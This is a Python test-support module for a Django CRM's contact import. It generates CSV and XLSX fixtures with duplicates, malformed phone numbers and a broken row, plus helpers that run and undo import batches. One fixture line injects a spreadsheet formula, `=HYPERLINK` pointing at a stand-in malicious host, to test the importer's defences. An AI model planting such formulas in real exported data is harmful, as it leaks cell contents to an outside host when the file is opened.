"""Spreadsheets for tests, and the way of one through the services."""

import hashlib
import io
import json
from collections.abc import Iterable, Sequence
from typing import Any

import openpyxl
from django.core.serializers.json import DjangoJSONEncoder

from crm.importing import batches
from crm.models import Contact, ImportBatch, Lead, Touch
from tenants.context import tenant_context
from tests.support.cast import Person
from tests.support.tasks import Queue

NAMES = ("José Muñoz", "María Ángeles Güiraldes", "Ñandú Peña", "Zoë Châteaubriand", "Ibáñez, Ana")
BAD, AGAIN, FORMULA = 250, 100, 500  # every so many rows


def csv_of(*rows: str, encoding: str = "utf-8") -> bytes:
    return "\r\n".join(rows).encode(encoding)


def xlsx_of(rows: Iterable[Sequence[Any]]) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(list(row))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def import_file(content: bytes, *, person: Person, queued: Queue, tenant: Any, **choices: Any) -> ImportBatch:
    """Upload, choose what is guessed, check and import; the finished batch."""
    batch = check_file(content, person=person, queued=queued, tenant=tenant, **choices)
    with tenant_context(tenant):
        batches.start(batch=batches.import_for(person.member, batch.pk, lock=True), by=person.actor)
    queued.drain()
    return again(tenant, batch)


def check_file(content: bytes, *, person: Person, queued: Queue, tenant: Any, **choices: Any) -> ImportBatch:
    with tenant_context(tenant):
        batch = batches.take_in(name="contactos.csv", content=content, user=person.user, by=person.actor)
        columns = choices.pop("columns", batch.mapping)
        choices.setdefault("makes_leads", batch.makes_leads)
        batches.choose(batch=batch, columns=columns, **choices)
        batches.check(batch=batch)
    queued.drain()
    return again(tenant, batch)


def undo_file(batch: ImportBatch, *, person: Person, queued: Queue, tenant: Any) -> ImportBatch:
    with tenant_context(tenant):
        batches.undo(batch=batches.import_for(person.member, batch.pk, lock=True), by=person.actor)
    queued.drain()
    return again(tenant, batch)


def again(tenant: Any, batch: ImportBatch) -> ImportBatch:
    with tenant_context(tenant):
        return ImportBatch.objects.get(pk=batch.pk)


def a_file(rows: int) -> bytes:
    """Semicolons, a mark, accents; rows that repeat the one before, that lost their number, with formulas; one is broken."""
    lines = ["\ufeffNombre;Teléfono;Correo;Ciudad;Origen;Etiquetas"]
    for n in range(1, rows + 1):
        name, phone, email = f"{NAMES[n % 5]} {n}", f"11 5{n:07}", f"persona{n}@example.com"
        if n % AGAIN == 50:
            phone, email = f"+54 9 11 5{n - 1:07}", ""
        if n % BAD == 0:
            phone = "5.49113E+12"
        if n % FORMULA == 7:
            name = f'=HYPERLINK(""http://mala.example""&A{n})'
        lines.append(f'"{name}";{phone};{email};Córdoba;feria;vip,nueva')
    lines[rows // 2 + 3] = '"Comilla sin cerrar;11 5999 0000;x@example.com;Lima;feria;vip'
    return "\r\n".join(lines).encode()


def digest() -> str:
    """Every contact, lead and arrival as it is, but for when it was last written."""
    rows: list[Any] = []
    for model in (Contact, Lead, Touch):
        columns = [each.attname for each in model._meta.concrete_fields if each.attname != "updated_at"]
        rows += model._default_manager.order_by("pk").values(*columns)
    return hashlib.sha256(json.dumps(rows, cls=DjangoJSONEncoder).encode()).hexdigest()


def expected_of(rows: int) -> tuple[int, int, int, int]:
    """New, completed, unchanged and refused of `a_file` where somebody has the tenth number already."""
    wrong, doubles = rows // BAD + 1, rows // AGAIN - rows // (2 * BAD)
    return rows - wrong - doubles - 1, 1, doubles, wrong


def counts(batch: ImportBatch) -> tuple[int, int, int, int]:
    return batch.created, batch.updated, batch.skipped, batch.refused
